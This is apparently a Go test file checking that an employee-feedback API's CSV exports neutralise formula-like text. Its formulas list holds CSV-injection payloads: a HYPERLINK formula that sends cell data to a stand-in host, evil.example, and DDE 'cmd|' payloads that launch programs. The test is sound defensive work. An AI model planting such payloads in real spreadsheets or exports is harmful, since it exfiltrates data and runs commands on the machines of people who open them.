package httpapi_test

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/hive-platform/hive/client"
	"github.com/hive-platform/hive/internal/csvsafe"
)

// formulas are texts a spreadsheet would evaluate, as an attacker sends them.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Open")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	"-1+1", "\t=1+1", "\r=1+1", "＝1+1",
}

// TestCSVExportsNeutraliseFormulas sends Open Door and Hive Five texts that
// start like formulas and checks ?format=csv writes each as text (a leading
// quote), while the JSON keeps the text exactly as sent, tab included.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	h := newHarness(t)
	feedbackOrg(t, h)
	var subs []client.OpenDoorSubmission
	var fives []client.HiveFive
	for i, f := range formulas {
		at := fmt.Sprintf("2025-06-%02dT10:00:00Z", i+1)
		subs = append(subs, client.OpenDoorSubmission{EmployeeID: fmt.Sprintf("emp-sales-%02d", i), Category: "problem", Text: f, SubmittedAt: at})
		fives = append(fives, client.HiveFive{SenderEmployeeID: fmt.Sprintf("emp-sales-%02d", i), RecipientEmployeeID: "emp-sales-11",
			Text: f, Value: "teamwork", SentAt: at})
	}
	h.addOpenDoor(subs...)
	if n, err := h.admin().AddHiveFives(t.Context(), fives); err != nil || n != len(fives) {
		t.Fatalf("add hive fives = %d, %v", n, err)
	}
	for _, path := range []string{"/v1/open-door", "/v1/hive-fives"} {
		js := h.list(h.boot.Secret, path)
		var texts []string
		for _, row := range js.Data {
			texts = append(texts, row["text"].(string))
		}
		if !slices.Equal(texts, formulas) {
			t.Errorf("%s JSON texts = %q, want them as sent", path, texts)
		}
		r := h.do("GET", path+"?format=csv", "", bearer(h.boot.Secret)...)
		recs, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
		if err != nil || len(recs) != len(formulas)+1 {
			t.Fatalf("%s CSV: %d records, %v\n%s", path, len(recs), err, r.body)
		}
		col := slices.Index(recs[0], "text")
		for i, rec := range recs[1:] {
			if want := "'" + strings.ReplaceAll(formulas[i], "\r", ""); rec[col] != want {
				t.Errorf("%s CSV text %q, want %q", path, rec[col], want)
			}
			for j, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !csvsafe.IsPlainNumber(cell) {
					t.Errorf("%s CSV column %s = %q would be evaluated", path, recs[0][j], cell)
				}
			}
		}
	}
}
